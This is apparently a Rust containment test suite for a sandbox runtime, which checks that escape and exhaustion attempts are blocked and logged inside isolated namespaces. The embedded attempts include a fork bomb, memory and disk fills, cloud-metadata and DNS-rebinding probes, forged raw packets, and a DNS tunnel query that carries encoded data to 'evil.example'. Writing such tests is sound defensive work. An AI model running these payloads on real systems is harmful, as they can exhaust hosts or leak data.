//! What a sandbox tries that it must not, on a host that can run one, or in the lab.
//!
//! usage: unshare --net containment STORE TEMPLATE [FILTER…]
//!
//! It must start in a network namespace of its own, which plays the host's; a second one plays the
//! world, so that nothing leaves the machine whatever a sandbox does. For each attempt it prints
//! whether it was contained and how it was noticed, and a closing `N passed, N failed` line; it
//! exits 1 if anything got out or went unnoticed.
#![forbid(unsafe_code)]

use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, sync_channel};
use std::time::{Duration, Instant};

use parbake_cache::template::SnapshotManifest;
use parbake_node::event::{EventKind, SandboxEvent};
use parbake_node::limits::{CgroupPolicy, Limit, LimitHit, Limits};
use parbake_node::network::{Pool, PoolOptions};
use parbake_node::sandbox::{Sandbox, SandboxError, SandboxOptions};
use parbake_protocol::agent::{ExecRequest, Output};
use parbake_tests::{Failed, Fixture};

const HOST: &str = "10.9.0.1";
const WORLD: &str = "10.9.0.2";

/// How an attempt went.
struct Outcome {
    attempted: String,
    contained: Result<String, String>,
    noticed: Result<String, String>,
}

type Attempt = (&'static str, fn(&Suite) -> Result<Vec<Outcome>, Failed>);

const ATTEMPTS: &[Attempt] = &[
    ("network", network),
    ("no network at all", no_network),
    ("fork bomb", fork_bomb),
    ("memory bomb", memory_bomb),
    ("more memory than the host gives", memory_limit),
    ("disk fill", disk_fill),
    ("inode fill", inode_fill),
    ("log flood", log_flood),
    ("processor spin", spin),
    ("living on", lifetime),
    ("other ways to the host", ways_to_the_host),
];

struct Suite {
    fixture: Fixture,
    snapshot: SnapshotManifest,
    world: World,
}

/// The process that plays the world, and the datagrams without content that came to it.
struct World {
    process: Child,
    empty: Arc<AtomicUsize>,
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    if arguments.first().is_some_and(|word| word == "--world") {
        world();
    }
    let [store, template, filter @ ..] = arguments.as_slice() else {
        eprintln!("usage: unshare --net containment STORE TEMPLATE [FILTER]");
        return ExitCode::from(2);
    };
    let suite = match prepare(Path::new(store), template) {
        Ok(suite) => suite,
        Err(error) => {
            println!("FAILED: {error}");
            println!("0 passed, 1 failed");
            return ExitCode::FAILURE;
        }
    };
    let (mut passed, mut failed) = (0, 0);
    println!("{:<52} {:<34} noticed", "attempted", "contained");
    for (name, attempt) in ATTEMPTS {
        if !filter.is_empty() && !filter.iter().any(|word| name.contains(word.as_str())) {
            continue;
        }
        match attempt(&suite) {
            Ok(outcomes) => {
                for outcome in outcomes {
                    let good = outcome.contained.is_ok() && outcome.noticed.is_ok();
                    if good {
                        passed += 1;
                    } else {
                        failed += 1;
                    }
                    let show = |result: &Result<String, String>| match result {
                        Ok(text) => text.clone(),
                        Err(text) => format!("NOT: {text}"),
                    };
                    println!(
                        "{:<52} {:<34} {}",
                        outcome.attempted,
                        show(&outcome.contained),
                        show(&outcome.noticed)
                    );
                }
            }
            Err(error) => {
                failed += 1;
                println!("{name}: FAILED: {error}");
                let mut cause = error.source();
                while let Some(next) = cause {
                    println!("    caused by: {next}");
                    cause = next.source();
                }
            }
        }
    }
    println!("{passed} passed, {failed} failed");
    if failed == 0 && passed > 0 { ExitCode::SUCCESS } else { ExitCode::FAILURE }
}

fn ip(arguments: &str) -> Result<(), Failed> {
    let output = Command::new("ip").args(arguments.split(' ')).output()?;
    if !output.status.success() {
        let text = String::from_utf8_lossy(&output.stderr).into_owned();
        return Err(format!("ip {arguments}: {text}").into());
    }
    Ok(())
}

fn prepare(store: &Path, template: &str) -> Result<Suite, Failed> {
    let links = fs::read_to_string("/proc/thread-self/net/dev")?;
    if links.lines().skip(2).any(|line| !line.trim_start().starts_with("lo:")) {
        return Err("start it with `unshare --net`: its attempts must not leave the machine".into());
    }
    let mut child = Command::new("unshare")
        .arg("--net")
        .arg(std::env::current_exe()?)
        .arg("--world")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()?;
    let pid = child.id();
    let mut output = std::io::BufReader::new(child.stdout.take().ok_or("no output")?);
    let empty = Arc::new(AtomicUsize::new(0));
    let world = World { process: child, empty: Arc::clone(&empty) };
    // It is in its namespace once it speaks.
    output.read_exact(&mut [0; 2])?;
    std::thread::spawn(move || {
        for byte in output.bytes().map_while(Result::ok) {
            empty.fetch_add(usize::from(byte == b'e'), Ordering::Relaxed);
        }
    });
    ip("link set lo up")?;
    ip(&format!("link add h0 type veth peer name w0 netns {pid}"))?;
    ip(&format!("address add {HOST}/24 dev h0"))?;
    ip("link set h0 up")?;
    // Everything forbidden could be reached, were it not for the walls.
    ip(&format!("route add default via {WORLD} dev h0"))?;
    let fixture = Fixture::open(store, template)?;
    let baked = fixture.bake(fixture.template.manifest.machine)?;
    Ok(Suite { fixture, snapshot: baked.snapshot, world })
}

/// Plays the world: addresses, greeters, a name server that knows every name.
fn world() -> ! {
    println!("!");
    let _ = std::io::stdout().flush();
    let deadline = Instant::now() + Duration::from_secs(10);
    while ip("link set w0 up").is_err() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let _ = ip("link set lo up");
    for address in [WORLD, "10.9.0.3", "169.254.169.254"] {
        let _ = ip(&format!("address add {address}/24 dev w0"));
    }
    for port in [22, 80, 443, 8080] {
        greet("0.0.0.0", port);
    }
    let echo = UdpSocket::bind("0.0.0.0:9").expect("a port");
    std::thread::spawn(move || {
        let mut buffer = [0; 1500];
        while let Ok((length, from)) = echo.recv_from(&mut buffer) {
            if length == 0 {
                println!("e");
            }
            let _ = echo.send_to(&buffer[..length], from);
        }
    });
    let names = UdpSocket::bind("0.0.0.0:53").expect("a port");
    let mut buffer = [0; 1500];
    while let Ok((length, from)) = names.recv_from(&mut buffer) {
        if let Some(reply) = named(&buffer[..length]) {
            let _ = names.send_to(&reply, from);
        }
    }
    std::process::exit(0)
}

/// The answer of a name server that has an address for every name.
fn named(query: &[u8]) -> Option<Vec<u8>> {
    let mut at = 12;
    while *query.get(at)? != 0 {
        at += usize::from(query[at]) + 1;
    }
    let question = query.get(12..at + 5)?;
    let rebound = question.windows(7).any(|word| word == b"rebound");
    let mut reply = query.get(..2)?.to_vec();
    reply.extend([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
    reply.extend(question);
    reply.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
    let address: Ipv4Addr = if rebound { "169.254.169.254" } else { WORLD }.parse().ok()?;
    reply.extend(address.octets());
    Some(reply)
}

fn greet(address: &str, port: u16) {
    let listener = TcpListener::bind((address, port)).expect("a port");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.write_all(b"hello");
        }
    });
}

impl Suite {
    fn sandbox(&self, options: &SandboxOptions) -> Result<Sandbox, Failed> {
        let files = self.fixture.template.restore_files(&self.fixture.store, &self.snapshot)?;
        Ok(Sandbox::restore(&files, self.snapshot.machine, options)?)
    }
}

fn caged(limits: Limits) -> (SandboxOptions, Receiver<SandboxEvent>) {
    let (sender, events) = sync_channel(10_000);
    let options = SandboxOptions { limits, events: Some(sender), ..Fixture::options() };
    (options, events)
}

fn run(sandbox: &mut Sandbox, script: &str, seconds: u64, output: u64) -> Result<Output, Failed> {
    let mut request = ExecRequest::new(["sh", "-c", script]);
    request.timeout_ms = Some(seconds * 1000);
    request.output_limit = Some(output);
    Ok(sandbox.connect()?.exec(request)?.wait_with_output(64 << 20)?)
}

/// Whether the sandbox still does what it is told.
fn answers(sandbox: &mut Sandbox) -> Result<String, String> {
    let begun = Instant::now();
    let said = run(sandbox, "echo here", 120, 1 << 20).map_err(|error| error.to_string())?;
    if said.stdout == b"here\n" {
        Ok(format!("answers after {:.1} s", begun.elapsed().as_secs_f64()))
    } else {
        Err(format!("says {:?}", said.stdout))
    }
}

/// The detail of a limit that was reached. A monitor's end may be seen a moment after its guest's.
fn hit(sandbox: &mut Sandbox, limit: Limit) -> Result<String, String> {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let hits = sandbox.limit_hits();
        if let Some(hit) = hits.iter().find(|hit| hit.limit == limit) {
            return Ok(hit.detail.clone());
        }
        if Instant::now() >= deadline {
            return Err(format!("{hits:?}"));
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn exit_hit(output: &Output, limit: Limit) -> Result<String, String> {
    let hits = LimitHit::of_exit(&output.exit);
    match hits.iter().find(|hit| hit.limit == limit) {
        Some(hit) => Ok(hit.detail.clone()),
        None => Err(format!("{:?}", output.exit)),
    }
}

/// One line for each attempt: its number, and `in` if it got through.
const TRY: &str = r#"
import socket, struct, sys, os
neighbours = sys.argv[1].split(",")
def report(name, ok): print(name, "in" if ok else "out", flush=True)
def tcp(name, address, port):
    try:
        with socket.create_connection((address, port), 3) as s: report(name, s.recv(9) == b"hello")
    except OSError: report(name, False)
def udp(name, address, port, data=b"x"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.connect((address, port)); s.send(data); report(name, len(s.recv(999)) > 0)
    except OSError: report(name, False)
def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def ping(name, address):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(3)
    body = struct.pack("!BBHHH", 8, 0, 0, 7, 7)
    body = struct.pack("!BBHHH", 8, 0, checksum(body), 7, 7)
    try:
        s.sendto(body, (address, 0))
        while True:
            got, sender = s.recvfrom(999)
            if sender[0] == address and got[20] == 0: report(name, True); return
            if got[20] == 3: report(name, False); return
    except OSError: report(name, False)
def query(name, kind=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!6H", 9, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)
def ask(label, name, kind=1, server="192.0.2.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    try:
        s.connect((server, 53)); s.send(query(name, kind)); got = s.recv(999)
        report(label, got[3] & 15 == 0 and got[7] > 0)
    except OSError: report(label, False)
def raw(kind, packet):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0))
    mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    s.send(bytes.fromhex("027062000001") + mac + struct.pack("!H", kind) + packet)
def ipv4(source, target):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + struct.pack("!4H", 99, 9, 8, 0)
tcp("allowed", "10.9.0.2", 443)
ask("name-allowed", "packages.example")
tcp("tcp", "10.9.0.2", 22)
udp("udp", "10.9.0.2", 9)
ping("icmp", "10.9.0.2")
tcp("metadata", "169.254.169.254", 8080)
tcp("host", "10.9.0.1", 8080)
tcp("gateway", "192.0.2.1", 8080)
for n in neighbours: tcp("neighbour", n, 8080)
ask("tunnel", "c2VjcmV0LWRhdGE.evil.example")
ask("tunnel-txt", "packages.example", 16)
ask("tunnel-direct", "packages.example", 1, "10.9.0.2")
ask("rebinding", "rebound.example")
raw(0x0800, ipv4("10.9.0.77", "10.9.0.2"))
raw(0x0800, ipv4("192.0.2.2", "127.0.0.1"))
raw(0x86dd, struct.pack("!IHBB", 6 << 28, 8, 17, 64) + b"\xfd" * 16 + socket.inet_pton(socket.AF_INET6, "fd00:ec2::254") + struct.pack("!4H", 99, 80, 8, 0))
print("done", flush=True)
"#;

fn network(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let host = TcpListener::bind((HOST, 8080))?;
    let loopback = UdpSocket::bind("127.0.0.1:9")?;
    let resolvers = vec![SocketAddr::new(WORLD.parse()?, 53)];
    let pool = Arc::new(Pool::new(PoolOptions {
        ready: 1,
        most: 2,
        resolvers,
        ..PoolOptions::default()
    })?);
    let policy = "allow=10.9.0.2:443,allow=packages.example:443,allow=rebound.example:80,allow=0.0.0.0/0:8080";
    let (mut options, events) = caged(Limits::default());
    options.egress = policy.parse()?;
    options.network_pool = Some(Arc::clone(&pool));
    let mut neighbour = suite.sandbox(&options)?;
    let mut listen = ExecRequest::new([
        "python3",
        "-c",
        "import socket\ns = socket.create_server((\"\", 8080))\nwhile 1: s.accept()[0].send(b\"hello\")",
    ]);
    listen.detach = true;
    neighbour.connect()?.exec(listen)?.next_event()?;
    // Both ends of its wire.
    let addresses = Command::new("ip").args(["-4", "-o", "address"]).output()?;
    let addresses = String::from_utf8_lossy(&addresses.stdout).into_owned();
    let wires: Vec<Ipv4Addr> = addresses
        .split_whitespace()
        .filter_map(|word| word.strip_suffix("/31")?.parse().ok())
        .flat_map(|wire: Ipv4Addr| [wire, Ipv4Addr::from(u32::from(wire) + 1)])
        .collect();
    if wires.is_empty() {
        return Err("the neighbour has no wire".into());
    }
    let wires: Vec<String> = wires.iter().map(ToString::to_string).collect();
    let mut sandbox = suite.sandbox(&options)?;
    let id = sandbox.id().to_owned();
    let session =
        sandbox.connect()?.exec(ExecRequest::new(["python3", "-c", TRY, &wires.join(",")]))?;
    let output = session.wait_with_output(1 << 20)?;
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    if !said.ends_with("done\n") {
        let why = String::from_utf8_lossy(&output.stderr).into_owned();
        return Err(format!("the attempts ended early: {said} {why}").into());
    }
    // What is told last is told within a moment.
    std::thread::sleep(Duration::from_millis(500));
    let counts = sandbox.egress_counts().unwrap_or_default();
    let events: Vec<EventKind> =
        events.try_iter().filter(|event| event.sandbox == id).map(|event| event.kind).collect();
    host.set_nonblocking(true)?;
    loopback.set_nonblocking(true)?;
    let verdict = |name: &str, wanted: &str| {
        let lines: Vec<&str> =
            said.lines().filter_map(|line| line.strip_prefix(name)?.strip_prefix(' ')).collect();
        if !lines.is_empty() && lines.iter().all(|line| *line == wanted) {
            Ok(if wanted == "in" { "reached" } else { "did not get through" }.to_owned())
        } else {
            Err(format!("{lines:?}"))
        }
    };
    let denied = |destination: &str, port: Option<u16>, protocol: &str| {
        let found = events.iter().find_map(|event| match event {
            EventKind::EgressDenied { destination: d, port: p, protocol: q, reason }
                if d == destination && *p == port && q == protocol =>
            {
                Some(format!("denied: {reason}"))
            }
            _ => None,
        });
        found.ok_or_else(|| "no event".to_owned())
    };
    let name = |wanted: &str| {
        let found = events.iter().find_map(|event| match event {
            EventKind::NameDenied { name, reason } if name == wanted => Some(reason.clone()),
            EventKind::NameOpened { name, .. } if name == wanted => Some("opened".to_owned()),
            _ => None,
        });
        found.ok_or_else(|| "no event".to_owned())
    };
    let outcome = |attempted: &str, contained, noticed| Outcome {
        attempted: attempted.to_owned(),
        contained,
        noticed,
    };
    let nothing = |got: bool| match got {
        true => Err("it arrived".to_owned()),
        false => Ok("did not arrive".to_owned()),
    };
    let counted = |count: u64| match count {
        0 => Err("not counted".to_owned()),
        count => Ok(format!("{count} counted")),
    };
    let none = || Ok("nothing to notice".to_owned());
    Ok(vec![
        outcome("an allowed address and port", verdict("allowed", "in"), none()),
        outcome("an allowed name", verdict("name-allowed", "in"), name("packages.example")),
        outcome(
            "TCP to a port that is not allowed",
            verdict("tcp", "out"),
            denied(WORLD, Some(22), "tcp"),
        ),
        outcome("UDP", verdict("udp", "out"), denied(WORLD, Some(9), "udp")),
        outcome("ICMP", verdict("icmp", "out"), denied(WORLD, None, "icmp")),
        outcome(
            "cloud metadata, under a rule for everything",
            verdict("metadata", "out"),
            denied("169.254.169.254", Some(8080), "tcp"),
        ),
        outcome(
            "the host's address, under a rule for everything",
            verdict("host", "out").and(nothing(host.accept().is_ok())),
            denied(HOST, Some(8080), "tcp"),
        ),
        outcome(
            "the router's address",
            verdict("gateway", "out"),
            denied("192.0.2.1", Some(8080), "tcp"),
        ),
        outcome(
            "a neighbour sandbox that listens",
            verdict("neighbour", "out"),
            wires
                .iter()
                .map(|wire| denied(wire, Some(8080), "tcp"))
                .find(|told| told.as_deref() == Ok("denied: blocked"))
                .unwrap_or_else(|| Err("no event".to_owned())),
        ),
        outcome("data in a name", verdict("tunnel", "out"), name("c2vjcmv0lwrhdge.evil.example")),
        outcome("another kind of record of an allowed name", verdict("tunnel-txt", "out"), none()),
        outcome(
            "asking another name server",
            verdict("tunnel-direct", "out"),
            denied(WORLD, Some(53), "udp"),
        ),
        outcome(
            "a name that leads to metadata",
            verdict("rebinding", "out"),
            name("rebound.example"),
        ),
        outcome(
            "a forged source address",
            nothing(suite.world.empty.load(Ordering::Relaxed) > 0),
            counted(counts.forged),
        ),
        outcome(
            "a packet to the host's loopback",
            nothing(loopback.recv(&mut [0; 9]).is_ok()),
            // The namespace's router knows such addresses for nonsense before any rule.
            none(),
        ),
        outcome(
            "IPv6 to metadata",
            Ok("there is no IPv6 outside".to_owned()),
            counted(counts.ipv6),
        ),
    ])
}

/// What root in the guest can do with an interface that nobody has set up: it leads nowhere.
const BRING_UP: &str = r#"
import fcntl, socket, struct
s = socket.socket()
def change(code, rest): fcntl.ioctl(s, code, struct.pack("16s", b"eth0") + rest)
def address(text): return struct.pack("=HH4s8x", 2, 0, socket.inet_aton(text))
change(0x8916, address("10.9.0.77"))
change(0x891c, address("255.255.255.0"))
change(0x8914, struct.pack("=H14x", 1))
print("up", flush=True)
socket.create_connection(("10.9.0.2", 443), 3)
print("reached")
"#;

fn no_network(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let (options, _events) = caged(Limits::default());
    let mut sandbox = suite.sandbox(&options)?;
    let output = sandbox
        .connect()?
        .exec(ExecRequest::new(["python3", "-c", BRING_UP]))?
        .wait_with_output(1 << 20)?;
    let said = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let contained = match said.as_str() {
        "up" => Ok("did not get through".to_owned()),
        _ => Err(format!("{said} {}", String::from_utf8_lossy(&output.stderr))),
    };
    let wires = fs::read_to_string("/proc/thread-self/net/dev")?.matches("pbk-").count();
    let noticed =
        if wires == 0 { Ok("no wire exists".into()) } else { Err(format!("{wires} wires")) };
    Ok(vec![Outcome { attempted: "TCP without a network".into(), contained, noticed }])
}

fn one(
    attempted: &str,
    contained: Result<String, String>,
    noticed: Result<String, String>,
) -> Vec<Outcome> {
    vec![Outcome { attempted: attempted.to_owned(), contained, noticed }]
}

fn fork_bomb(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let (options, _events) = caged(Limits::default());
    let mut sandbox = suite.sandbox(&options)?;
    let before = fs::read_dir(format!("/proc/{}/task", sandbox.monitor_pid()))?.count();
    let output = run(&mut sandbox, "bomb() { bomb | bomb & }; bomb; sleep 1000", 8, 1 << 20)?;
    let after = fs::read_dir(format!("/proc/{}/task", sandbox.monitor_pid()))?.count();
    let contained = answers(&mut sandbox).and_then(|text| {
        if after == before { Ok(text) } else { Err(format!("{before} host threads, then {after}")) }
    });
    Ok(one("fork bomb", contained, exit_hit(&output, Limit::ExecTime)))
}

fn memory_bomb(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let (options, _events) = caged(Limits::default());
    let mut sandbox = suite.sandbox(&options)?;
    let script = "python3 -c 'x = []\nwhile 1: x.append(bytearray(1 << 20))'";
    let output = run(&mut sandbox, script, 120, 1 << 20)?;
    let killed = output.exit.shell_code();
    let noticed = match killed {
        0 => Err("it ended as if nothing had happened".to_owned()),
        code => Ok(format!("the guest's kernel ended it ({code})")),
    };
    Ok(one("memory bomb", answers(&mut sandbox), noticed))
}

/// Before the kernel ends a group for want of memory it takes all file pages away from it, which
/// are most of a restored guest, and brings them back one by one. That can take long, so a lifetime
/// is set, too, as whoever sets a tight limit should.
fn memory_limit(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let limits = Limits {
        memory_bytes: Some(160 << 20),
        lifetime: Some(Duration::from_secs(60)),
        cgroup: CgroupPolicy::Required,
        ..Limits::default()
    };
    let (options, _events) = caged(limits);
    let mut sandbox = match suite.sandbox(&options) {
        Ok(sandbox) => sandbox,
        Err(error) if matches!(error.downcast_ref(), Some(SandboxError::Cgroup(_))) => {
            let refused = format!("refused: {error}");
            return Ok(one("more memory than the host gives", Ok(refused.clone()), Ok(refused)));
        }
        Err(error) => return Err(error),
    };
    let script = "python3 -c 'x = bytearray(190 << 20)\nfor i in range(0, len(x), 4096): x[i] = 1'";
    let result = run(&mut sandbox, script, 300, 1 << 20);
    let contained = match result {
        Err(_) => Ok("the sandbox was ended".to_owned()),
        Ok(output) => Err(format!("{:?}", output.exit)),
    };
    let noticed = hit(&mut sandbox, Limit::Memory).or_else(|_| hit(&mut sandbox, Limit::Lifetime));
    Ok(one("more memory than the host gives", contained, noticed))
}

fn disk_fill(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let limits = Limits { disk_bytes: Some(32 << 20), ..Limits::default() };
    let (options, _events) = caged(limits);
    let mut sandbox = suite.sandbox(&options)?;
    let output = run(
        &mut sandbox,
        "dd if=/dev/urandom of=/root/fill bs=1M count=100 && sync",
        120,
        1 << 20,
    )?;
    let _ = output;
    let written = sandbox.status()?.overlay_bytes.iter().sum::<u64>();
    let contained = match written {
        0..=33_554_432 => {
            answers(&mut sandbox).map(|text| format!("{} MiB, {text}", written >> 20))
        }
        more => Err(format!("{more} bytes")),
    };
    Ok(one("100 MB to a disk of 32 MiB", contained, hit(&mut sandbox, Limit::Disk)))
}

fn inode_fill(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let limits = Limits { disk_bytes: Some(64 << 20), ..Limits::default() };
    let (options, _events) = caged(limits);
    let mut sandbox = suite.sandbox(&options)?;
    let script = "python3 -c 'import os\nos.mkdir(\"/root/i\")\nn = 0\ntry:\n while n < 3000000:\n  \
        open(\"/root/i/%d\" % n, \"w\").close(); n += 1\nexcept OSError as e: print(n, e.strerror)'";
    let output = run(&mut sandbox, script, 60, 1 << 20)?;
    let said = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let noticed = match said.is_empty() {
        true => exit_hit(&output, Limit::ExecTime),
        false => Ok(said),
    };
    Ok(one("files without end", answers(&mut sandbox), noticed))
}

fn log_flood(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    const LIMIT: usize = 1 << 20;
    let (options, _events) = caged(Limits::default());
    let mut sandbox = suite.sandbox(&options)?;
    let output = run(&mut sandbox, "yes | head -c 20000000", 120, LIMIT as u64)?;
    let passed = output.stdout.len();
    let streams =
        if passed <= LIMIT { Ok(format!("{passed} bytes")) } else { Err(format!("{passed}")) };
    let noticed = exit_hit(&output, Limit::ExecOutput);
    let mut outcomes = one("20 MB of output where 1 MiB may be", streams, noticed);
    run(&mut sandbox, "timeout 10 sh -c 'yes flood > /dev/ttyS0'", 60, 1 << 20)?;
    let console = fs::metadata(sandbox.console())?.len();
    let kept = if console <= 5 << 20 {
        Ok(format!("{console} bytes kept"))
    } else {
        Err(format!("{console}"))
    };
    outcomes.extend(one("console flood", kept, answers(&mut sandbox)));
    Ok(outcomes)
}

/// Processor time of a process, in seconds.
fn processor_seconds(pid: u32) -> Result<f64, Failed> {
    let text = fs::read_to_string(format!("/proc/{pid}/stat"))?;
    let fields: Vec<&str> =
        text.rsplit(')').next().unwrap_or_default().split_whitespace().collect();
    let ticks: f64 = fields[11].parse::<f64>()? + fields[12].parse::<f64>()?;
    #[allow(clippy::cast_precision_loss, reason = "a hundred or so")]
    Ok(ticks / rustix::param::clock_ticks_per_second() as f64)
}

fn spin(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let limits =
        Limits { cpu_milli: Some(300), cgroup: CgroupPolicy::Required, ..Limits::default() };
    let (options, _events) = caged(limits);
    let mut sandbox = match suite.sandbox(&options) {
        Ok(sandbox) => sandbox,
        Err(error) if matches!(error.downcast_ref(), Some(SandboxError::Cgroup(_))) => {
            let refused = format!("refused: {error}");
            return Ok(one("processor spin", Ok(refused.clone()), Ok(refused)));
        }
        Err(error) => return Err(error),
    };
    let (before, begun) = (processor_seconds(sandbox.monitor_pid())?, Instant::now());
    run(&mut sandbox, "while :; do :; done", 8, 1 << 20)?;
    let used = processor_seconds(sandbox.monitor_pid())? - before;
    let share = used / begun.elapsed().as_secs_f64();
    let contained = if share < 0.45 {
        Ok(format!("{share:.2} processors of 0.30"))
    } else {
        Err(format!("{share:.2} processors"))
    };
    Ok(one("processor spin", contained, hit(&mut sandbox, Limit::Cpu)))
}

fn lifetime(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let limits = Limits { lifetime: Some(Duration::from_secs(20)), ..Limits::default() };
    let (options, _events) = caged(limits);
    let mut sandbox = suite.sandbox(&options)?;
    let begun = Instant::now();
    let result = run(&mut sandbox, "trap '' TERM INT HUP; while :; do sleep 1; done", 120, 1 << 20);
    let contained = match result {
        Err(_) if begun.elapsed() < Duration::from_secs(40) => {
            Ok("the sandbox was ended".to_owned())
        }
        other => Err(format!("{other:?} after {:?}", begun.elapsed())),
    };
    Ok(one("living on after its time", contained, hit(&mut sandbox, Limit::Lifetime)))
}

fn ways_to_the_host(suite: &Suite) -> Result<Vec<Outcome>, Failed> {
    let (options, _events) = caged(Limits::default());
    let mut sandbox = suite.sandbox(&options)?;
    let pid = sandbox.monitor_pid();
    // The second disk is where a workspace would be: it is empty.
    let script = "ls /dev/kvm 2>/dev/null; for disk in /sys/block/*; do [ ${disk##*/} = vda ] || \
                  [ $(cat $disk/size) = 0 ] || echo $disk; head -c 1 /dev/${disk##*/} >/tmp/byte \
                  2>/dev/null; [ ${disk##*/} = vda ] || [ ! -s /tmp/byte ] || echo reads $disk; done; \
                  python3 -c '\nimport socket\nfor cid in (0, 1, 2, 4):\n for port in (22, 80, 1024, 5000, 9999):\n  s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(2)\n  try:\n   s.connect((cid, port)); print(\"reached\", cid, port)\n  except OSError: pass\n'";
    let output = run(&mut sandbox, script, 120, 1 << 20)?;
    let said = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let quiet = if said.is_empty() { Ok("nothing there".to_owned()) } else { Err(said) };
    let mut outcomes = one(
        "devices of the host, socket ports nobody offers",
        quiet,
        Ok("nothing to notice".into()),
    );
    let environment = fs::read(format!("/proc/{pid}/environ"))?;
    let empty = if environment.is_empty() {
        Ok("it has none".to_owned())
    } else {
        Err("it has some".to_owned())
    };
    let jail = sandbox.timings().jail.join(" ");
    let layers =
        ["namespace:pid", "namespace:net", "empty_root", "landlock", "seccomp", "no_capabilities"];
    let missing: Vec<_> = layers.into_iter().filter(|layer| !jail.contains(layer)).collect();
    let all = if missing.is_empty() {
        Ok(format!("{} layers", jail.split(' ').count()))
    } else {
        Err(format!("without {missing:?}"))
    };
    outcomes.extend(one("the host's environment, through the monitor", empty, all));
    Ok(outcomes)
}
